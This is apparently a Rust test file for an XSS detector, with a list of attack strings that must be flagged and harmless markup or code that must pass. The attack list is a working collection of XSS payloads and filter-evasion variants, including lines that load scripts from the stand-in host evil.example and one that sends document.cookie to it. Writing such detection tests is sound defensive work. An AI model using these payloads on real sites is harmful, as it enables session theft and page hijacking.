use proptest::prelude::*;

use super::find;

const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/src=data:,alert(1)>",
    "<script >alert`1`</script >",
    "\"><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR = 'alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<body onload=alert(1)",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"java&#115;cript:alert(1)\">",
    "<a href=\"jav\tascript:alert(1)\">",
    "<a href='&#x6A;avascript&colon;alert(1)'>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<button formaction=javascript:alert(1)>",
    "<math href=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<x onclick=alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import '//evil.example'</style>",
    "<div style=\"width: expression(alert(1))\">",
    "<input autofocus onfocus=alert(1)>",
    "\" onmouseover=alert(1) x=\"",
    "' onfocus='alert(1)' autofocus='",
    "\" autofocus onfocus=alert(1) ",
    "x onerror=alert(1)",
    "\"onclick=alert(1)//",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.cookie)",
    "java\nscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:msgbox(1)",
    "<svg><script>alert&#40;1)</script>",
    "<img src=x onerror=&#97;lert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<svg><use href=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<a onpointerover=alert(1)>x",
    "<script>document.location='//evil.example/'+document.cookie</script>",
    "<img src=x:x onerror\u{b}=alert(1)>",
];

const HARMLESS: &[&str] = &[
    "a < b and c > d",
    "I <3 you",
    "<b>bold</b> and <i>italic</i>",
    "<p class=\"note\">text</p>",
    "use the <script> tag (see the docs)",
    "how does <script> work?",
    "List<String> names = new ArrayList<>();",
    "if (x<y && one=1) {}",
    "<https://example.com/a?b=c>",
    "<ann@example.com>",
    "<a href=\"https://example.com/\">link</a>",
    "<img src=\"/a.png\" alt=\"one=two\">",
    "javascript: the good parts",
    "JavaScript and TypeScript",
    "data: 5, 6, 7",
    "data:image/png;base64-ish",
    "onboarding=yes",
    "only=1&on=2",
    "online=true",
    "on click do this",
    "x = y",
    "key=value; other=\"quoted\"",
    "he said \"on = off\"",
    "<br/><hr>",
    "<iframe src=\"https://www.youtube.com/embed/abc\" width=560></iframe>",
    "vector<int> v; v[0] = 1;",
    "Map<Object, List<Integer>> data = load();",
    "<!-- comment -->",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "1<2>1",
    "<",
    "<>",
    "</p>",
    "< script >",
    "set the onclick handler",
    "the option on=1",
    "<style> element",
    "time: 10:30",
    "mailto:ann@example.com",
    "<div style=\"color: red\">",
    "{\"onload\": \"x\"}",
    "<html lang=en>",
    "\"quoted\" text = fine",
    "it's on='x'",
    "<T extends Base> T load(Class<T> c)",
    "<form action=\"/search\">",
    "a=\"b\" on_sale=\"yes\"",
];

#[test]
fn attacks_are_found() {
    let missed: Vec<_> = ATTACKS.iter().filter(|text| find(text).is_none()).collect();
    assert!(missed.is_empty(), "{missed:#?}");
}

#[test]
fn markup_and_comparisons_are_let_pass() {
    let alarms: Vec<_> =
        HARMLESS.iter().filter_map(|text| find(text).map(|found| (text, &text[found]))).collect();
    assert!(alarms.is_empty(), "{alarms:#?}");
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn any_text_is_judged_without_panic(text in "([<>\"'`=/ &;:é\u{0}]|script|on|load|href|javascript|svg|𝄞|&#x6a|[a-z(]){0,30}") {
        if let Some(found) = find(&text) {
            prop_assert!(text.get(found).is_some());
        }
    }
}
